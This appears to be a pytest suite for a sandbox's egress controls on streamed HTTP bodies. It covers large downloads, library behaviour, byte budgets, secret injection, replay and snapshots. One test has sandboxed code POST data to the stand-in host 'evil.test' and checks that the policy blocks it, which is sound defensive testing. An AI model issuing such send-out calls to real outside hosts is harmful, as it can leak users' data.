"""Bodies in pieces of programs in the engine: http.open, http.send, http.read.

SPDX-License-Identifier: Apache-2.0
"""

from __future__ import annotations

import json
import os
import textwrap
import unittest
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from egress_box import HERE, SECRET, SECRETS, World
from tool import Caisson, needs_jail

BOTH = pytest.mark.parametrize("place", [(), ("--in-process",)], ids=["worker", "inprocess"])


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    path = Path(os.environ.get("CAISSON", HERE.parents[1] / "build-debug/caisson"))
    try:
        made = World(path)
    except unittest.SkipTest as why:
        pytest.skip(str(why))
    needs_jail(Caisson(path))
    yield made
    made.close()


def run(world: World, code: str, *options: str, egress: str = "allow: [api.test, other.test]", also: str = "",
        env: dict[str, str] | None = None) -> Any:
    done = world.ask(run=[str(world.caisson), "run", "--json", "--no-audit", "--depth", "interp", "--policy",
                          world.policy(egress, also), *options, "-c",
                          "import json\nseen = []\n" + textwrap.dedent(code) + "\nprint(json.dumps(seen))"],
                     env=env or {})
    assert done["code"] == 0, done
    return json.loads(json.loads(done["out"])["stdout"])


@BOTH
def test_a_body_larger_than_the_memory_of_the_session(world: World, place: tuple[str, ...]) -> None:
    seen = run(world, """
        import hashlib, urllib.request
        digest, size, most = hashlib.sha256(), 0, 0
        with urllib.request.urlopen("https://api.test/big/200000000") as r:
            seen.append(r.length)
            while piece := r.read(1 << 20):
                size += len(piece); most = max(most, len(piece)); digest.update(piece)
        seen += [size, most <= 1 << 20, digest.hexdigest()]
    """, "--memory", "64m", "--timeout", "100s", *place)
    import hashlib
    assert seen == [200000000, 200000000, True, hashlib.sha256(b"x" * 200000000).hexdigest()]


LIBRARIES = """
    import io, requests, httpx, urllib.request, http.client
    with requests.get("https://api.test/big/3000000", stream=True) as r:
        seen.append([r.status_code, sum(len(x) for x in r.iter_content(70000))])
        try: r.content
        except RuntimeError as e: seen.append(str(e))
    with httpx.stream("GET", "https://api.test/big/3000000") as r:
        seen.append([r.status_code, sum(len(x) for x in r.iter_bytes()), r.num_bytes_downloaded])
    with httpx.stream("GET", "https://api.test/split") as r:
        try: r.content
        except httpx.ResponseNotRead: seen.append("not read")
        seen.append(r.read().decode())
    seen.append([x for x in requests.get("https://api.test/close", stream=True).iter_lines()][0].decode())
    c = http.client.HTTPSConnection("api.test")
    c.request("GET", "/big/100000"); r = c.getresponse()
    seen.append([len(r.read(10)), r.length, len(r.readline(20)), len(r.read()), r.isclosed(), r.read().decode()])
    seen.append(json.loads(requests.post("https://api.test/up", data=(b"y" * 100000 for _ in range(30))).text)["body"])
    seen.append(json.loads(requests.put("https://api.test/up", data=io.BytesIO(b"z" * 2000000)).text)["body"])
    q = urllib.request.Request("https://api.test/up", data=io.BytesIO(b"w" * 500000), headers={"Content-Length": "500000"}, method="PUT")
    seen.append(json.load(urllib.request.urlopen(q))["body"])
"""


@BOTH
def test_what_libraries_do_with_it(world: World, place: tuple[str, ...]) -> None:
    world.log()
    seen = run(world, LIBRARIES, *place)
    assert seen == [[200, 3000000], "The content for this response was already consumed", [200, 3000000, 3000000],
                    "not read", "you sent !", "until the end", [10, 99990, 20, 99970, True, ""],
                    3000000, 2000000, 500000]
    sent = [x["headers"] for x in world.log()["http"] if x["line"].startswith(("POST", "PUT"))]
    assert [x.get("transfer-encoding") for x in sent] == ["chunked", None, None]
    assert [x.get("content-length") for x in sent] == [None, "2000000", "500000"]


@BOTH
def test_many_open_replies_at_one_time(world: World, place: tuple[str, ...]) -> None:
    seen = run(world, """
        import urllib.request
        get = lambda: urllib.request.urlopen("https://api.test/big/5000000")
        open_ = [get() for _ in range(16)]
        seen.append([len(r.read()) for r in open_])
        open_ = [get() for _ in range(17)]
        seen.append([len(r.read()) for r in open_[1:]] == [5000000] * 16)
        try: seen.append(len(open_[0].read()))
        except OSError as e: seen.append(e.errno)
        r = get(); r.close()
        seen.append(len(get().read()))
    """, "--memory", "512m", *place)
    assert seen == [[5000000] * 16, True, 9, 5000000]


def test_rules_hold_in_the_middle_of_a_body(world: World) -> None:
    seen = run(world, """
        import requests, urllib.request
        got = 0
        try:
            r = urllib.request.urlopen("https://api.test/big/9000000")
            while piece := r.read(100000): got += len(piece)
        except OSError as e: seen.append(["budget" in str(e), 1000000 < got < 5000000])
        try: requests.post("https://evil.test/", data=(b"y" for _ in range(3)))
        except requests.ConnectionError as e: seen.append("not_allowed" in str(e))
        def breaks():
            yield b"a"
            raise KeyError("mine")
        try: requests.post("https://other.test/", data=breaks())
        except KeyError as e: seen.append(str(e))
        q = urllib.request.Request("https://other.test/", data=iter([b"a" * 10]), headers={"Content-Length": "5"}, method="PUT")
        try: urllib.request.urlopen(q)
        except Exception as e: seen.append(type(e).__name__)
    """, egress="allow: [{host: api.test, max_in: 3MiB}, other.test]")
    assert seen[:3] == [[True, True], True, "'mine'"], seen
    assert seen[3] == "ValueError"
    assert all(x["line"] != "PUT / HTTP/1.1" for x in world.log()["http"])


def test_secrets_in_streams(world: World) -> None:
    world.log()
    seen = run(world, """
        import os, requests
        key = os.environ["API_KEY"]
        with requests.get("https://api.test/split", headers={"Authorization": key}, stream=True) as r:
            seen.append(b"".join(r.iter_content(5)).decode() == f"you sent {key}!")
    """, "--secret", "api_key", also=SECRETS, env={"CAISSON_TEST_SECRET": SECRET})
    assert seen == [True]
    assert world.log()["http"][0]["headers"]["authorization"] == SECRET


def test_a_replay_asks_nobody(world: World, tmp_path: Path) -> None:
    code = textwrap.dedent("""
        import requests
        r = requests.get("https://api.test/big/3000000", stream=True)
        n = [len(x) for x in r.iter_content(500000)]
        print(n, requests.post("https://api.test/up", data=iter([b"a", b"bc"])).json()["body"])
    """)
    journal = world.folder / "stream.cj"
    p = world.policy("allow: [api.test]")
    first = world.ask(run=[str(world.caisson), "run", "--no-audit", "--depth", "interp", "--policy", p,
                           "--journal", str(journal), "-c", code], env={})
    assert first["code"] == 0, first
    assert len(world.log()["http"]) == 2
    again = world.ask(run=[str(world.caisson), "replay", "--no-audit", str(journal)], env={})
    assert again["out"].startswith(first["out"].strip()), again
    assert world.log()["http"] == []


def test_a_saved_session_has_no_open_replies(world: World) -> None:
    code = textwrap.dedent("""
        import urllib.request
        r = urllib.request.urlopen("https://api.test/big/5000000")
        first = len(r.read(10))
        pause()
        try: r.read()
        except OSError as e: print(first, e.errno, "saved" in str(e))
        print(len(urllib.request.urlopen("https://api.test/big/5").read()))
    """)
    p, file = world.policy("allow: [api.test]"), str(world.folder / "open.snap")
    done = world.ask(run=[str(world.caisson), "snapshot", "dump", "--no-audit", "--depth", "interp", "--policy", p,
                          "--tool", "pause=true", "--at", "pause", "-o", file, "-c", code], env={})
    assert done["code"] == 0, done
    done = world.ask(run=[str(world.caisson), "snapshot", "load", "--no-audit", "--depth", "interp", "--policy", p, "--reply", "null", file], env={})
    assert done["out"].split("\n")[:2] == ["10 9 True", "5"], done
